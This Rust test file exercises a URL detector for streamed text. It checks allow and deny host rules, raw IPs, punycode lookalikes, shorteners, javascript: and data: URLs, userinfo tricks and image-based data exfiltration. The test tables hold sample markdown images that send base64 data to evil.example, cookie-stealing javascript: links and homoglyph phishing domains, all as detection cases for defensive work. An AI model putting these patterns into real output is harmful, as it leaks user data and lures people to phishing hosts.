//! What is found and what is not, in every place. All hosts are made up, reserved for examples, or well-known services.

use proptest::prelude::*;

use super::{TRICKS, names};
use crate::detector::format::tests::{Table, context, cut_anywhere, found, labelled, released};
use crate::policy::file::load_policy_source;

/// An address that carries a lot.
macro_rules! leak {
    () => {
        "https://evil.example/p.png?d=c2VjcmV0IG51bWJlciBvbmUgaXMgNDIgYW5kIHRoZSBzZWNvbmQgb25lIGlzIDQzIGJ1dA"
    };
}
/// Kind, text, address: for the tests of streams.
pub(in crate::detector) fn samples() -> impl Iterator<Item = &'static (&'static str, &'static str, &'static str)> {
    SAMPLES.iter()
}

const SAMPLES: &[(&str, &str, &str)] = &[
    ("exfiltration", concat!("So ![x](", leak!(), ") it is"), leak!()),
    ("exfiltration", concat!("So <img alt=x src='", leak!(), "'> it is"), leak!()),
    ("ip", "Go to http://0xcb007109/login now", "http://0xcb007109/login"),
    ("userinfo", "[docs](https://docs.acme.com@evil.example/a) here", "https://docs.acme.com@evil.example/a"),
    ("punycode", "See <https://xn--80ak6aa92e.com/> now", "https://xn--80ak6aa92e.com/"),
    ("shortener", "[1]: https://bit.ly/3xYzAbC\nnow", "https://bit.ly/3xYzAbC"),
    ("javascript", "[a](javascript:alert(document.cookie)) b", "javascript:alert(document.cookie)"),
    ("data", "Open data:text/html;base64,PHNjcmlwdD4= now", "data:text/html;base64,PHNjcmlwdD4="),
];

const ALLOWED: &str =
    "urls: { allow_hosts: [docs.acme.com, '*.acme.org', müller.example, 203.0.113.5, '[2001:db8::1]'] }";

#[test]
fn hosts_that_are_not_allowed() {
    Table {
        detect: ALLOWED,
        written: "See {}",
        valid: &[
            "https://evil.example",
            "http://acme.com",
            "https://docs.acme.com.evil.example",
            "https://evil-docs.acme.com",
            "https://acme.org",
            "https://notacme.org",
            "HTTPS://EVIL.EXAMPLE",
            "www.evil.example",
            "ftp://files.evil.example",
            "wss://evil.example:8443",
            "https://docs.acme.com@evil.example",
            "https://docs.acme.com:443@evil.example:443",
            "http://203.0.113.6",
            "http://[2001:db8::2]:8080",
            "https://muller.example",
            "http://intranet",
        ],
        invalid: &[
            "https://docs.acme.com",
            "https://DOCS.ACME.COM:8443",
            "https://docs.acme.com./",
            "https://docs%2eacme.com/",
            "https://api.acme.org",
            "https://a.b.acme.org/x?y=z#w",
            "https://müller.example/",
            "https://xn--mller-kva.example/",
            "https://MÜLLER.example",
            "http://203.0.113.5/",
            "http://0xcb007105/",
            "http://[2001:db8:0::1]/",
            "www.acme.org",
            "https://",
            "https://...",
            "https://{host}/path",
            "mailto:jane@evil.example",
            "evil.example",
            "xhttps://evil.example",
        ],
    }
    .check();
}

#[test]
fn images_and_links_of_other_hosts() {
    let addresses = &[
        "https://evil.example/a.png",
        "https://evil.example",
        "http://evil.example/a_(b).png?c=d",
        "//evil.example/a.png",
        r"https:\\evil.example/a.png",
        "https:/evil.example/a.png",
        "https:evil.example/a.png",
        r"https\://evil.example/a.png",
        "HTTPS://EVIL.EXAMPLE/a,b;c.png",
        "www.evil.example/a.png",
        "https://docs.acme.com@evil.example/a.png",
    ];
    let relative = &[
        "https://docs.acme.com/a.png",
        "//docs.acme.com/a.png",
        "a.png",
        "/images/a.png",
        "../a.png",
        "#heading",
        "?q=https",
        "mailto:jane@evil.example",
        "tel:+15550100",
        "//comment",
        "http:",
        "",
    ];
    for (place, written) in
        [("image", "![a picture]({})"), ("link", "[a page]({})"), ("link", "[a page]( {} \"title\")")]
    {
        let detect = format!("urls: {{ in: [{place}], allow_hosts: [docs.acme.com] }}");
        Table { detect: &detect, written, valid: addresses, invalid: relative }.check();
        let other = if place == "image" { "link" } else { "image" };
        let detect = format!("urls: {{ in: [{other}, text], allow_hosts: [docs.acme.com] }}");
        for address in addresses {
            assert_eq!(found(&detect, &written.replace("{}", address)), [""; 0], "{address} in {written}");
        }
    }
}

#[test]
fn every_place() {
    let url = "https://evil.example/a.png?b=c";
    for (place, text) in [
        ("image", format!("![]({url})")),
        ("image", format!("![a [b] c]( <{url}> 'title')")),
        ("image", format!("[![a]({url})](/here)")),
        ("image", format!(r"![a\]]({url})")),
        ("image", format!("![a `]`]({url})")),
        ("image", format!("![a `[`]({url})")),
        ("image", format!("![a\nb](\n{url}\n)")),
        ("image", format!("<img alt=\"x\" src=\"{url}\">")),
        ("image", format!("<IMG SRC = ' {url} '>")),
        ("image", format!("<img data-src={url} alt=x>")),
        ("image", format!("<img srcset=\"{url} 2x\">").replace(" 2x", "")),
        ("image", format!("<p style=\"background: url('{url}')\">")),
        ("image", format!("![a][1]\n\n[1]: {url} 'title'")),
        ("link", format!("[a]({url})")),
        ("link", format!(r"\![a]({url})")),
        ("link", format!("[![a](/b.png)]({url})")),
        ("link", format!("[a]: <{url}>")),
        ("link", format!("[a]:\n  {url}")),
        ("link", format!("<{url}>")),
        ("link", format!("<a class=x href=\"{url}\">a</a>")),
        ("link", format!("<a href={url}>a</a>")),
        ("text", format!("See {url}, please.")),
        ("text", format!("(see {url})")),
        ("text", format!("**{url}**")),
        ("text", format!("\"img\": \"{url}\"")),
        ("text", format!("`{url}`")),
        ("text", format!("[{url}]")),
        ("text", format!("https://docs.acme.com/login?next={url}")),
    ] {
        let rule = |places: &str| format!("urls: {{ in: [{places}], allow_hosts: [docs.acme.com] }}");
        assert_eq!(found(&rule(place), &text), [url], "{place}: {text}");
        assert_eq!(found(&rule("image, link, text"), &text), [url], "{text}");
        cut_anywhere(&rule(place), "", &text, url, " end");
        if place == "text" {
            assert_eq!(found(&rule("image, link"), &text), [""; 0], "{text}");
        } else {
            assert_eq!(found(&rule("text"), &text), [""; 0], "{text}");
        }
    }
}

#[test]
fn an_address_goes_on_as_far_as_programs_make_a_link_of_it() {
    for (text, url) in [
        ("https://evil.example/a,b;c!d'e", "https://evil.example/a,b;c!d'e"),
        ("https://evil.example/a_(b)_c).", "https://evil.example/a_(b)_c"),
        ("请看https://evil.example谢谢，", "https://evil.example谢谢"),
        ("请看https://evil.example，谢谢", "https://evil.example"),
        ("https://evil.example/ü?é=ñ", "https://evil.example/ü?é=ñ"),
        ("https://bücher.example…", "https://bücher.example"),
        ("[https://evil.example](/a)", "https://evil.example"),
        ("https://evil.example\\n", "https://evil.example"),
        ("'https://evil.example','x'", "https://evil.example"),
        ("https://docs.acme.com;x@evil.example", "https://docs.acme.com;x@evil.example"),
        ("'https://evil.example/a','x'", "https://evil.example/a','x"),
    ] {
        assert_eq!(found(ALLOWED, text), [url], "{text}");
    }
}

#[test]
fn hosts_that_are_denied() {
    Table {
        detect: "urls: { deny_hosts: [evil.example, '*.evil.example', 203.0.113.9] }",
        written: "<a href=\"{}\">",
        valid: &[
            "https://evil.example/",
            "https://evil.example:8443/a b",
            "http://EVIL.EXAMPLE",
            "//evil.example/x",
            "https://a.evil.example/",
            "https://a.b.evil.example?c",
            "https://docs.acme.com@evil.example",
            r"https:\\evil.example\x",
            "https://evil%2Eexample",
            "https://ｅｖｉｌ.example",
            "https://evil\u{3002}example/",
            "http://0313.0.113.9/",
            "ht\ntps://evil.example/",
        ],
        invalid: &[
            "https://evil.example.acme.com/",
            "https://notevil.example/",
            "https://evil.exam/ple",
            "https://acme.com/evil.example",
            "https://acme.com/?q=evil.example",
            "https://acme.com/#@evil.example",
            "https://evil.example@acme.com/",
            "evil.example",
            "/evil.example",
            "http://203.0.113.90/",
            "mailto:a@evil.example",
        ],
    }
    .check();
    // Denied is denied, allowed or not.
    let both = "urls: { allow_hosts: ['*.acme.com'], deny_hosts: [old.acme.com] }";
    assert_eq!(found(both, "https://old.acme.com https://new.acme.com"), ["https://old.acme.com"]);
}

#[test]
fn ip() {
    Table {
        detect: "urls: { kinds: [ip] }",
        written: "Open {}",
        valid: &[
            "http://203.0.113.9",
            "https://203.0.113.9:8443",
            "http://user@203.0.113.9",
            "http://3405803785",
            "http://0xcb.0x00.0x71.0x09",
            "http://0xCB007109",
            "http://0313.0.0161.011",
            "http://203.113",
            "http://2130706433",
            "http://0x7f.1",
            "http://0177.0.0.1",
            "http://169.254.169.254",
            "ws://[2001:db8::1]:80",
        ],
        invalid: &[
            "http://127.0.0.1:8080",
            "http://0.0.0.0",
            "http://[::1]:3000",
            "http://localhost",
            "https://203.0.113.9.example.com",
            "https://1password.com",
            "https://example.com/203.0.113.9",
            "https://example.com?ip=203.0.113.9",
            "http://203.0.113.256",
            "http://1.2.3.4.5",
            "203.0.113.9",
            "http://0xyz",
        ],
    }
    .check();
}

#[test]
fn punycode() {
    Table {
        detect: "urls: { kinds: [punycode] }",
        written: "[x]({})",
        valid: &[
            "https://xn--80ak6aa92e.com/",
            "https://аpple.com",
            "https://www.аpple.com/a",
            "https://pаypаl.com/login",
            "https://gооgle.com",
            "https://micrоsoft.com.",
            "//аpple.com/x",
            "https://раураl.com",
            "https://ɡithub.com",
            "https://user@аpple.com:443/",
            "https://goog1e.xn--80ak6aa92e.com/",
            "https://ｗｗｗ.аpple.com/",
        ],
        invalid: &[
            "https://apple.com",
            "https://müller.de",
            "https://xn--mller-kva.de/",
            "https://пример.рф",
            "https://xn--e1afmkfd.xn--p1ai/",
            "https://сахар.рф",
            "https://例え.jp",
            "https://ελλάδα.gr",
            "https://ｇｏｏｇｌｅ.com",
            "https://café.fr/а",
            "https://œuvre.fr",
            "https://straße.de",
            "https://xn--example.com",
        ],
    }
    .check();
}

#[test]
fn shortener() {
    Table {
        detect: "urls: { kinds: [shortener] }",
        written: "<{}>",
        valid: &[
            "https://bit.ly/3xYzAbC",
            "http://BIT.LY/abc",
            "https://www.tinyurl.com/abc",
            "https://t.co/abc",
            "https://goo.gl/maps/x",
            "https://is.gd/abc",
            "https://ow.ly/abc",
            "https://rb.gy/abc",
            "https://cutt.ly:443/abc",
            "https://x@rebrand.ly/abc",
            "https://shorturl.at/abc",
        ],
        invalid: &[
            "https://rabbit.ly/abc",
            "https://bit.ly.example.com/abc",
            "https://example.com/bit.ly",
            "https://example.com?u=bit.ly",
            "https://abc.t.co.example",
            "https://microsoft.co/x",
            "https://bit.lyrics.example/",
            "https://about.me",
            "https://tinyurl.example",
            "mailto:x@bit.ly",
        ],
    }
    .check();
}

#[test]
fn data() {
    Table {
        detect: "urls: { kinds: [data] }",
        written: "![x]({})",
        valid: &[
            "data:image/png;base64,iVBORw0KGgo=",
            "data:text/html,hello",
            "data:text/html;charset=utf-8,hello",
            "data:text/html;charset=utf-8;base64,aGVsbG8=",
            "data:image/svg+xml;utf8,%3Csvg%3E",
            "DATA:TEXT/HTML,HI",
            "data:application/javascript;base64,YWxlcnQoMSk=",
            "data:;base64,aGVsbG8=",
            "data:text/plain,",
            "data:application/x-www-form-urlencoded,a=b&c=d",
            "data:video/mp4;base64,AAAA",
            "data:x-custom/thing,abc",
        ],
        invalid: &[
            "data:,hello",
            "data: text/html,hello",
            "data:yes/no,maybe",
            "metadata:text/html,hello",
            "data:text,hello",
            "data:text/html",
            "data:image/png;base64",
            "data.png",
            "data://server/x",
            "big_data:image/png,x",
        ],
    }
    .check();
    let long = format!("data:image/png;base64,{}", "QUJD".repeat(4096));
    assert_eq!(found("urls: { in: [image] }", &format!("![x]({long})")), [long.as_str()]);
}

#[test]
fn javascript() {
    Table {
        detect: "urls: { in: [link], kinds: [javascript] }",
        written: "<a href='{}'>",
        valid: &[
            "javascript:alert(1)",
            "JavaScript:alert(1)",
            "vbscript:msgbox(1)",
            "javascript:void(0);",
            "java\nscript:alert(1)",
            "j\ta\tv\tascript:alert(1)",
            "javascript:location=x",
            "javascript:%61lert`1`",
            "javascript://x%0aalert(1)",
            "javascript:document.cookie",
            "javascript\n:alert(1)",
        ],
        invalid: &[
            "javascript",
            "javascript: the good parts",
            "https://example.com/javascript:",
            "/javascript:alert(1)",
            "livescript:alert(1)",
            "xjavascript:alert(1)",
            "javascript-alert(1)",
            "#javascript:alert(1)",
            "java script:alert(1)",
            "javascript;alert(1)",
        ],
    }
    .check();
    let rule = "urls: { kinds: [javascript] }";
    assert_eq!(found(rule, "Type javascript:alert(1) there"), ["javascript:alert(1)"]);
    assert_eq!(found(rule, r"[a](javascript\:alert\(1\))"), [r"javascript\:alert\(1\)"]);
    assert_eq!(found(rule, "I know JavaScript: it runs everywhere. javascript:The Good Parts"), [""; 0]);
}

#[test]
fn userinfo() {
    Table {
        detect: "urls: { kinds: [userinfo] }",
        written: "[x]({})",
        valid: &[
            "https://docs.acme.com@evil.example/",
            "https://docs.acme.com:443@evil.example/a",
            "https://a:b@evil.example",
            "https://docs.acme.com%2f@evil.example",
            "https://docs.acme.com&x=1@evil.example/",
            "//docs.acme.com@evil.example",
            "ftp://anonymous@files.example/",
            r"https:\\docs.acme.com@evil.example",
            "https://a@b@evil.example",
            "https://docs.acme.com;x@evil.example?y",
        ],
        invalid: &[
            "https://evil.example/@docs.acme.com",
            "https://social.example/@user",
            "https://evil.example?mail=a@b.example",
            "https://evil.example#a@b",
            "https://evil.example?@docs.acme.com",
            "mailto:a@b.example",
            "https://@evil.example",
            "https://evil.example/a%40b",
            "user@host.example",
            "https://evil.example:443/",
        ],
    }
    .check();
}

const LONG: &str = "c2VjcmV0IG51bWJlciBvbmUgaXMgNDIgYW5kIHRoZSBzZWNvbmQgb25lIGlzIDQzIGJ1dCB5b3Uga25ldw";

#[test]
fn exfiltration() {
    let made = [
        format!("https://evil.example/p.png?d={LONG}"),
        format!("https://evil.example/p.png?{LONG}"),
        format!("https://evil.example/{LONG}/p.png"),
        format!("https://evil.example/{LONG}"),
        format!("//evil.example/?a=b&d={LONG}"),
        format!("https://203.0.113.9/?d={LONG}"),
        format!("https://evil.example/?d={}", "the%20secret%20".repeat(8)),
        format!("https://evil.example/{}", "the+secret+".repeat(8)),
        format!("https://evil.example/?{}", "d=0123456789012345678901234567890123456789&".repeat(6)),
        format!("https://{}.{}.evil.example/a.png?d={}", "a1".repeat(30), "b2".repeat(30), &LONG[..64])
            .replace("?d=", "?d=1"),
        format!("https://evil.example/x?d={LONG}#top"),
    ];
    let made: Vec<&str> = made.iter().map(String::as_str).collect();
    Table {
        detect: "urls: { kinds: [exfiltration] }",
        written: "![x]({})",
        valid: &made,
        invalid: &[
            "https://example.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&auto=format&fit=crop&w=2070&q=80",
            "https://example.com/a/very/long/path/with/many/ordinary/segments/that/says/what/it/shows/photo.png",
            "https://example.com/how-to-bake-bread-at-home-in-ten-minutes-with-nothing-but-flour-and-water.jpg",
            "https://github.example/acme/repo/commit/8f14e45fceea167a5a36dedd4bea2543d1e7f6c0",
            "https://img.example/badge/build-passing-brightgreen.svg?style=flat-square&logo=github",
            "https://maps.example/staticmap?center=52.5200,13.4050&zoom=12&size=640x480&scale=2",
            "https://example.com/?utm_source=news&utm_medium=mail&utm_campaign=spring-sale-2026",
            "https://example.com/a.png",
            "https://example.com/a.png#c2VjcmV0IG51bWJlciBvbmUgaXMgNDIgYW5kIHRoZSBzZWNvbmQgb25lIGlzIDQzIGJ1dCB5b3Uga25ldw",
            "a.png?c2VjcmV0IG51bWJlciBvbmUgaXMgNDIgYW5kIHRoZSBzZWNvbmQgb25lIGlzIDQzIGJ1dCB5b3Uga25ldw",
        ],
    }
    .check();
    let rule = "urls: { kinds: [exfiltration] }";
    let link = |data: &str| format!("[x](https://evil.example/?d={data}) and https://evil.example/?d={data}");
    assert_eq!(found(rule, &link(LONG)), [""; 0], "somebody has to follow a link, and text leads nowhere");
    assert_eq!(found(rule, &link(&LONG.repeat(4))).len(), 1);
    let allowed = "urls: { allow_hosts: [evil.example] }";
    assert_eq!(found(allowed, &format!("![x]({})", leak!())), [""; 0]);
}

#[test]
fn an_address_is_one_finding_and_its_label_tells_most() {
    let label = |detect: &str, text: &str| {
        let found = labelled(&context(detect), &[text]);
        let labels: Vec<String> = found.into_iter().map(|(_, label)| label.unwrap_or_default().to_string()).collect();
        labels.join(" ")
    };
    for (text, expected) in [
        ("https://x@203.0.113.9/", "userinfo"),
        ("https://203.0.113.9/", "ip"),
        ("[a](https://bit.ly/x)", "shortener"),
        ("![](//аpple.com)", "punycode"),
        ("<a href=javascript:alert(1)>", "javascript"),
        (concat!("![](", leak!(), ")"), "exfiltration"),
        ("data:text/html,x", "data"),
        ("https://example.com/", ""),
    ] {
        assert_eq!(label("urls: {}", text), expected, "{text}");
    }
    assert_eq!(label("urls: { allow_hosts: [a.example] }", concat!("![](", leak!(), ")")), "not_allowed");
    assert_eq!(label("urls: { allow_hosts: [a.example] }", "https://203.0.113.9/"), "ip");
    assert_eq!(label("urls: { allow_hosts: [a.example] }", "https://b.example/"), "not_allowed");
    assert_eq!(label("urls: { deny_hosts: [203.0.113.9] }", "https://203.0.113.9/"), "denied");
}

#[test]
fn every_kind_has_a_name_and_is_documented() {
    let documented = include_str!("../../../docs/detectors.md");
    for (name, _) in &*names() {
        assert!(documented.contains(&format!("| `{name}` |")), "docs/detectors.md has no row for {name}");
    }
    assert!(TRICKS.iter().all(|trick| *names()[trick.sort as usize].0 == *trick.name));
}

#[test]
fn what_is_wrong_with_a_rule_is_said() {
    for (detect, expected) in [
        ("kinds: [ipv4]", "unknown kind `ipv4`"),
        ("kinds: [shortner]", "did you mean `shortener`?"),
        ("in: [images]", "did you mean `image`?"),
        ("allow_hosts: ['https://docs.acme.com/']", "expected a host such as `docs.acme.com`"),
        ("allow_hosts: ['docs.acme.com:443']", "leave out scheme, port and path"),
        ("deny_hosts: ['a.*.com']", "expected a host such as `docs.acme.com`"),
        ("allow_hosts: []", "`allow_hosts` is empty"),
        ("in: [text], kinds: [exfiltration]", "`exfiltration` is never found in text alone"),
        ("hosts: [a.example]", "unknown key `hosts`"),
    ] {
        let text = format!("rules: [{{ id: r, detect: {{ urls: {{ {detect} }} }}, action: log }}]");
        let source = crate::config::Source::new("test.yaml", &text);
        let loaded = load_policy_source(&source, std::path::Path::new("/nowhere"), jiff::Timestamp::UNIX_EPOCH);
        let problems = loaded.err().map(|problems| problems.to_string()).unwrap_or_default();
        assert!(problems.contains(expected), "{detect}: {problems}");
    }
}

#[test]
fn ordinary_text_waits_for_nothing() {
    let context = context("urls: {}");
    let text = "The host was asked whether he would serve water; just as well, said the visitor (a friend), [for now].";
    let letters: Vec<String> = text.chars().map(String::from).collect();
    let (_, steps) = released(&context, &letters.iter().map(String::as_str).collect::<Vec<_>>());
    let longest = steps.iter().enumerate().map(|(at, open)| (at + 1).saturating_sub(*open)).max();
    assert!(longest <= Some(4), "{longest:?} bytes wait: {steps:?}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn chunks_do_not_matter(
        parts in prop::collection::vec(0..PARTS.len(), 1..14),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        rule in 0..RULES.len(),
    ) {
        let text: String = parts.iter().map(|&part| PARTS[part]).collect();
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
        places.retain(|&at| text.is_char_boundary(at));
        places.extend([0, text.len()]);
        places.sort_unstable();
        let pieces: Vec<&str> = places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
        let context = context(RULES[rule]);
        prop_assert_eq!(labelled(&context, &pieces), labelled(&context, &[&text]));
        prop_assert_eq!(released(&context, &pieces).0, released(&context, &[&text]).0);
    }
}

const RULES: &[&str] = &[
    "urls: {}",
    "urls: { in: [image] }",
    "urls: { in: [link, text], allow_hosts: [docs.acme.com, müller.example] }",
    "urls: { deny_hosts: ['*.evil.example'] }",
];
const PARTS: &[&str] = &[
    "![",
    "[",
    "](",
    ")",
    "](<",
    ">",
    "<",
    "]: ",
    "https://",
    "//",
    "www.",
    "docs.acme.com",
    "evil.example",
    "a.",
    "@",
    "/",
    "?d=",
    LONG,
    "src=\"",
    "href=",
    "\"",
    "'",
    " ",
    "\n",
    ".",
    ",",
    "é",
    "müller.example",
    "，",
    "javascript:",
    "alert(1)",
    "data:text/html,",
    "203.0.113.9",
    "bit.ly",
    "url(",
    "\\",
    "https\\:",
    "&#58;",
    "%2e",
    "h",
    "w",
];
